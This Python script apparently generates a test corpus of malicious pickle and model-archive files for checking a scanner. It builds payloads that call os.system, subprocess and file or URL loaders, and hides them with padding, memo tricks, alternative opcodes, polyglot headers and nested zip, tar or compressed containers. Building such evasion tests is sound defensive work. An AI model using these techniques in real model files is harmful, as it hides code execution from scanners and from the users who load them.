"""Builds evasions of the pickle and container readers: bytes only, nothing is ever loaded. Deterministic.

    python evals/evasion/generate.py OUT_DIR

Every payload is an `echo`; OUT_DIR gets the files and manifest.json (path, family, variant). All of them are malicious.
"""

import argparse
import base64
import bz2
import gzip
import io
import json
import lzma
import random
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

Variant = tuple[str, str, bytes]  # family, file name, content
_SEED = 20_261_121


def text(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def glob(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


ECHO = text("echo evasion")
CALL = b"(" + ECHO + b"tR"
PLAIN = glob("os", "system") + CALL
STACKED = short("os") + short("system") + b"\x93" + CALL
PICKLE = b"\x80\x04" + STACKED + b"."
TEXTUAL = b"cos\nsystem\n(S'echo evasion'\ntR."

# Opcodes that leave one inert value, and how it is thrown away.
INERT: dict[str, bytes] = {
    "none": b"N",
    "true": b"\x88",
    "int": b"K\x07",
    "long": b"\x8a\x02\x01\x02",
    "float": b"G" + bytes(8),
    "text": short("inert"),
    "longtext": text("inert" * 9),
    "tuple": b")",
    "pair": b"K\x01K\x02\x86",
    "list": b"]",
    "dict": b"}",
    "filled": b"](K\x01K\x02K\x03e",
    "mapping": b"}(X\x01\0\0\0aK\x01u",
    "set": b"\x8f(K\x01\x90",
    "bytes": b"C\x03abc",
}


def padding_variants() -> Iterator[Variant]:
    """Payloads before, between and behind long runs of one opcode."""
    for name, atom in INERT.items():
        for size in (1 << 12, 1 << 17, 1 << 19):
            run = b"(" + atom * (size // len(atom)) + b"l0"
            for place, data in (
                ("behind", run + STACKED),
                ("before", PLAIN + run + b"0N"),
                ("between", run + STACKED + run),
                ("inside", b"(" + atom * (size // len(atom)) + STACKED + atom * 40 + b"l"),
            ):
                yield "padding", f"{name}-{size}-{place}.pkl", b"\x80\x04" + data + b"."


def boundary_variants() -> Iterator[Variant]:
    """The payload across the edges of windows and of the smallest stream that is passed over in bulk."""
    for edge in (1 << 12, 1 << 16, 1 << 18, 1 << 19):
        for shift in (-40, -17, -8, -3, -1, 0, 1, 5):
            count = edge + shift - 3
            yield "boundary", f"{edge}{shift:+}.pkl", b"\x80\x04(" + b"N" * count + STACKED + b"N" * 64 + b"l."


def memo_variants() -> Iterator[Variant]:
    """Names that come out of the memo, memoised or replaced inside runs that nobody steps through."""
    run = b"N" * 70_000
    tail = short("echo evasion") + b"\x85R"
    put = {"binput": (b"q\x05", b"q\x06"), "long": (b"r\x05\0\0\0", b"r\x06\0\0\0"), "text": (b"p5\n", b"p6\n")}
    get = {"binget": (b"h\x05", b"h\x06"), "long": (b"j\x05\0\0\0", b"j\x06\0\0\0"), "text": (b"g5\n", b"g6\n")}
    for put_name, (put5, put6) in put.items():
        for get_name, (get5, get6) in get.items():
            safe = short("collections") + put5 + b"0" + short("OrderedDict") + put6 + b"0"
            evil = short("os") + put5 + short("system") + put6
            use = get5 + get6 + b"\x93" + tail
            stem = f"{put_name}-{get_name}"
            yield "memo", f"overwritten-{stem}.pkl", b"\x80\x04" + safe + b"(" + run + evil + run + b"l0" + use + b"."
            known = safe + glob("builtins", "int") + b"q\x090(" + run + b"l0("
            yield "memo", f"replaced-{stem}.pkl", b"\x80\x04" + known + run + evil + run + b"l0" + use + b"."
            yield "memo", f"first-set-{stem}.pkl", b"\x80\x04(" + run + evil + run + b"l0" + use + b"."
            yield "memo", f"in-frame-{stem}.pkl", b"\x80\x04(" + run + evil + run + use + b"l."
            yield "memo", f"small-{stem}.pkl", b"\x80\x04" + safe + b"(" + evil + b"l0" + use + b"."
            mixed = b"\x80\x04" + safe + b"(" + run + evil + run + b"l\x94" + use + run + b"\x94" + use + b"."
            yield "memo", f"mixed-{stem}.pkl", mixed
    for count in (2, 40, 300):
        strings = b"".join(short(f"s{n}") + b"\x94" for n in range(count))
        body = b"(" + run + strings + short("os") + b"\x94" + short("system") + b"\x94" + run + b"l"
        use = b"j" + struct.pack("<I", count) + b"j" + struct.pack("<I", count + 1) + b"\x93" + tail
        yield "memo", f"memoized-{count}.pkl", b"\x80\x04" + body + use + b"."
        yield "memo", f"memoized-dup-{count}.pkl", b"\x80\x04" + body + b"20" + use + b"."
        swapped = short("x") + b"\x94" + strings + b"(" + run + short("os") + b"q\0l" + b"h\0" + short("system") + b"\x93" + tail
        yield "memo", f"memoized-then-put-{count}.pkl", b"\x80\x04" + swapped + b"."
        far = short("collections") + b"r" + struct.pack("<I", count) + b"0" + glob("builtins", "int") + b"q\xfa0("
        fill = b"".join(
            short(f"s{n}") + (b"q" if n < 256 else b"r") + struct.pack("<I", n)[: 1 if n < 256 else 4] for n in range(count - 2)
        )
        body = far + run + b"l0(" + run + fill + run + b"l0" + short("os") + b"\x94" + short("system") + b"r\xff\xff\0\0"
        use = b"j" + struct.pack("<I", count) + b"j\xff\xff\0\0\x93" + tail
        yield "memo", f"put-then-memoized-{count}.pkl", b"\x80\x04" + body + use + b"."


def opcode_variants() -> Iterator[Variant]:
    """Other ways to a call: INST, OBJ, NEWOBJ, EXT, BUILD, text escapes, names of old Pythons, broken ends."""
    tail = b"(" + ECHO + b"tR."
    bodies: dict[str, bytes] = {
        "inst": b"(" + ECHO + b"ios\nsystem\n.",
        "obj": b"(" + glob("os", "system") + ECHO + b"o.",
        "obj-nested-marks": b"((((N1N1N1(" + glob("os", "system") + ECHO + b"o.",
        "dup-name": short("nt") + b"0" + short("os") + b"2" + b"0" + short("system") + b"\x93" + tail,
        "popmark": b"(" + b"N" * 9 + b"1" + PLAIN + b".",
        "octal": b"S'o\\163'\nS'\\x73ystem'\n\x93" + tail,
        "escaped": b"V\\u006fs\nV\\u0073ystem\n\x93" + tail,
        "python2-commands": glob("commands", "getoutput") + tail,
        "python2-builtin": glob("__builtin__", "eval") + b"(" + text("print('evasion')") + b"tR.",
        "python2-execfile": glob("__builtin__", "execfile") + tail,
        "python2-popen2": glob("popen2", "popen2") + tail,
        "copy-reg": glob("copy_reg", "_reconstructor") + b"(" + glob("os", "system") + ECHO + b"NtR.",
        "newobj": glob("subprocess", "Popen") + b"(" + ECHO + b"t\x81.",
        "newobj-ex": glob("subprocess", "Popen") + b")}" + text("args") + ECHO + b"s\x92.",
        "build-slots": glob("os", "path") + b"N}" + text("join") + glob("os", "system") + b"s\x86b" + PLAIN + b".",
        "module-setitem": glob("sys", "modules") + text("json") + glob("os", "system") + b"s" + PLAIN + b".",
        "module-build": glob("builtins", "len") + b"}" + text("__call__") + glob("os", "system") + b"sb.",
        "unknown-opcode-after": PLAIN + b"\xff",
        "no-stop": PLAIN,
        "frame-inside": b"\x95" + struct.pack("<Q", 60) + b"N0" * 10 + PLAIN + b".",
        "frame-lies": b"\x95" + struct.pack("<Q", 1 << 40) + PLAIN + b".",
        "extension": glob("copyreg", "add_extension") + b"(" + short("os") + short("system") + b"K\x07tR0\x82\x07" + tail,
        "decode": glob("_codecs", "decode") + b"(" + short("bf") + short("rot13") + b"tR" + short("system") + b"\x93" + tail,
        "nested-bytes": glob("pickle", "loads") + b"(B" + struct.pack("<I", len(PICKLE)) + PICKLE + b"tR.",
        "bytearray8": b"\x96" + struct.pack("<Q", len(PICKLE)) + PICKLE + b"0" + PLAIN + b".",
        "base64": glob("pickle", "loads")
        + b"("
        + glob("base64", "b64decode")
        + b"("
        + text(base64.b64encode(PICKLE).decode())
        + b"tRtR.",
        "dotted": short("logging") + short("os.system") + b"\x93" + tail,
        "getattr": glob("builtins", "getattr") + b"(" + glob("posix", "") + short("system") + b"tR" + tail,
        "path-read": glob("builtins", "getattr")
        + b"("
        + glob("pathlib", "Path")
        + b"("
        + text("/etc/passwd")
        + b"tR"
        + short("read_text")
        + b"tR)R.",
    }
    for name, body in bodies.items():
        for protocol in (2, 4, 5):
            yield "opcodes", f"{name}-{protocol}.pkl", bytes([0x80, protocol]) + body
    for cut in range(len(PICKLE) - 4, len(PICKLE)):
        yield "truncated", f"{cut}.pkl", PICKLE[:cut] if PICKLE[cut - 1 :][:1] == b"R" or cut == len(PICKLE) - 1 else PICKLE
    for name, junk in {"zeros": bytes(64), "space": b" \n" * 30, "text": b"junk " * 20, "high": b"\xff" * 40}.items():
        yield "streams", f"{name}.pkl", b"\x80\x04N." + junk + PICKLE
        yield "streams", f"{name}-text.pkl", b"\x80\x04N." + junk[:2] + TEXTUAL
        yield "streams", f"{name}-three.pkl", (b"\x80\x04N." + junk) * 3 + PICKLE


def polyglot_variants() -> Iterator[Variant]:
    """Streams whose first opcode reads as the magic number of something else."""
    starts = {
        "gif": b"GIF89a\0\0\0",
        "pe": b"MZ\x90",
        "catboost": b"CBM1" + b"\x40\0\0\0" + b"A" * 60,
        "executorch": b"C\x06\0\0ET12",
        "tflite": b"C\x06\0\0TFL3",
        "gguf": b"GGUF\3\0\0\0\1",
        "safetensors": b"G\1\0\0\0\0\0\0{",
    }
    for name, start in starts.items():
        for suffix in ("pkl", "bin", "dat"):
            yield "polyglot", f"{name}.{suffix}", start + b"0" + PLAIN + b"."
    hdf5 = b"\x89HDF\r\n\x1a\n" + bytes(600)
    yield "polyglot", "hdf5.pkl", TEXTUAL + b"\0" * (512 - len(TEXTUAL)) + hdf5
    yield "polyglot", "tar.pkl", TEXTUAL.ljust(257, b"\n") + b"ustar\0" + bytes(700)
    yield "polyglot", "bz2.pkl", b"BZh9\0" + b"A" * 0x39685A + b"0" + PLAIN + b"."


GADGETS = """os.popen subprocess.getoutput pty.spawn runpy.run_path timeit.timeit cProfile.run pdb.run doctest.debug_script
code.interact imaplib.IMAP4_stream webbrowser.open ctypes.CDLL importlib.import_module pydoc.locate shutil.rmtree marshal.loads
torch.hub.load torch.load torch.ops.aten.from_file torch.UntypedStorage.from_file numpy.load numpy.memmap numpy.DataSource
numpy.fromfile pandas.read_pickle pandas.HDFStore pandas.eval joblib.load sklearn.datasets.load_files sklearn.datasets.fetch_openml
scipy.io.loadmat scipy.sparse.load_npz networkx.read_gpickle transformers.pipeline transformers.AutoModel.from_pretrained
tokenizers.Tokenizer.from_file catboost.CatBoost.load_model torch.utils.cpp_extension.load torch.classes.load_library
sentence_transformers.SentenceTransformer xgboost.Booster lightgbm.Booster catboost.Pool gensim.models.word2vec.LineSentence
gensim.models.wrappers.LdaMallet nltk.tag.StanfordTagger ultralytics.nn.autobackend.AutoBackend transformers.models.rag.LegacyIndex
tokenizers.models.BPE timm.data.readers.ReaderImageTar torch_geometric.data.SQLiteDatabase""".split()  # noqa: SIM905 - a list of names


def gadget_variants() -> Iterator[Variant]:
    """Callables that run, load, fetch or read when they are called with a path."""
    for path in GADGETS:
        module, _, name = path.rpartition(".")
        for argument in ("/etc/passwd", "https://example.invalid/model"):
            tail = b"(" + text(argument) + b"tR."
            label = "path" if argument.startswith("/") else "url"
            yield "gadgets", f"{path}-{label}.pkl", b"\x80\x02" + glob(module, name) + tail
            yield "gadgets", f"{path}-{label}-stacked.pkl", b"\x80\x04" + short(module) + short(name) + b"\x93" + tail


def zipped(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip with fixed dates."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data, compress_type=method)
    return out.getvalue()


def tarred(members: list[tuple[str, bytes]], layout: int = tarfile.PAX_FORMAT) -> bytes:
    """A tar with fixed dates."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=layout) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _alone(data: bytes) -> bytes:
    return lzma.compress(data, lzma.FORMAT_ALONE)


COMPRESSIONS: dict[str, Callable[[bytes], bytes]] = {
    "gz": lambda data: gzip.compress(data, mtime=0),
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": _alone,
    "zlib": zlib.compress,
}


def container_variants() -> Iterator[Variant]:
    """Odd zips and tars, compressions one inside another, and several frames."""
    benign = b"\x80\x04N."
    version = ("archive/version", b"3\n")
    good = zipped([("archive/data.pkl", benign), version])
    bad = zipped([("archive/data.pkl", PICKLE), version])
    deflated = zipped([("archive/data.pkl", PICKLE), version], zipfile.ZIP_DEFLATED)
    zips = {
        "plain": bad,
        "deflated": deflated,
        "two-prefixes": zipped([("a/data.pkl", benign), ("b/data.pkl", PICKLE), version]),
        "case": zipped([("archive/data.pkl", benign), ("archive/DATA.PKL", PICKLE), version]),
        "unicode": zipped([("archive/d\u0430ta.pkl", PICKLE), ("archive/data.pkl", benign), version]),
        "storage": zipped([("archive/data.pkl", benign), ("archive/data/0", PICKLE), version]),
        "storage-text": zipped([("archive/data.pkl", benign), ("archive/data/0", TEXTUAL), version]),
        "appended": good + bad,
        "prepended": bad + good,
        "pickle-before": PICKLE + good,
        "text-before": TEXTUAL + good,
        "comment": good[:-2] + struct.pack("<H", len(PICKLE)) + PICKLE,
        "local-only": bad[: bad.index(b"PK\1\2")],
        "local-only-before": bad[: bad.index(b"PK\1\2")] + good,
        "stored-zip": zipped([("inner.zip", bad)]),
        "renamed": zipped([("weights.bin", zipped([("x.txt", PICKLE)])), ("readme.md", b"# a model")]),
        "tar-inside": zipped([("m.tar", tarred([("x.pkl", PICKLE)]))]),
        "method-lie": bad.replace(b"PK\1\2\x14\3\x14\0\0\0\0\0", b"PK\1\2\x14\3\x14\0\0\0\x08\0"),
        "encrypted-flag": bad.replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0"),
    }
    for name, data in zips.items():
        for suffix in ("pt", "bin", "zip", "safetensors"):
            yield "zip", f"{name}.{suffix}", data
    for label, layout in (("ustar", tarfile.USTAR_FORMAT), ("gnu", tarfile.GNU_FORMAT), ("pax", tarfile.PAX_FORMAT)):
        yield "tar", f"{label}.tar", tarred([("a/data.pkl", PICKLE)], layout)
        yield "tar", f"{label}-second.tar", tarred([("a.pkl", benign)], layout) + tarred([("a.pkl", PICKLE)], layout)
        yield "tar", f"{label}-long.bin", tarred([("d/" * 45 + "x.pkl", PICKLE)], layout)
    for outer, one in COMPRESSIONS.items():
        yield "compressed", f"one.{outer}", one(PICKLE)
        yield "compressed", f"frames.{outer}", one(benign) + one(PICKLE)
        yield "compressed", f"behind.{outer}", one(benign) + PICKLE
        yield "compressed", f"text.{outer}", one(TEXTUAL)
        for inner, other in COMPRESSIONS.items():
            yield "compressed", f"two-{inner}.{outer}", one(other(PICKLE))
    for depth in (3, 10, 11, 12, 13, 14, 20):
        data = nested = PICKLE
        for _ in range(depth):
            data, nested = gzip.compress(data, mtime=0), zipped([("x", nested)])
        yield "depth", f"gz-{depth}.bin", data
        yield "depth", f"zip-{depth}.zip", nested


def random_variants(count: int = 60) -> Iterator[Variant]:
    """Random inert padding with the payload at a random place: what is passed over in bulk must not decide."""
    draw = random.Random(_SEED)  # noqa: S311 - repeatable, not secret
    atoms = list(INERT.values())
    for number in range(count):
        protocol = draw.choice((2, 4, 5))
        memo = draw.choice((b"", b"\x94", b"q\x07"))
        parts = [draw.choice(atoms) + (memo if draw.random() < 0.3 else b"") for _ in range(draw.choice((50, 20_000, 60_000)))]
        parts.insert(draw.randrange(len(parts)), draw.choice((PLAIN, STACKED)))
        yield "random", f"{number:03}.pkl", bytes([0x80, protocol]) + b"(" + b"".join(parts) + b"l."


def variants() -> Iterator[Variant]:
    """All of them."""
    for family in (
        padding_variants,
        boundary_variants,
        memo_variants,
        opcode_variants,
        polyglot_variants,
        gadget_variants,
        container_variants,
        random_variants,
    ):
        yield from family()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out", type=Path)
    out: Path = parser.parse_args().out
    manifest: list[dict[str, str]] = []
    for family, name, data in variants():
        path = out / family / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        manifest.append({"path": f"{family}/{name}", "family": family, "variant": name})
    (out / "manifest.json").write_text(json.dumps(manifest, indent=0))
    print(f"{len(manifest)} variants in {len({entry['family'] for entry in manifest})} families")
    return 0


if __name__ == "__main__":
    sys.exit(main())
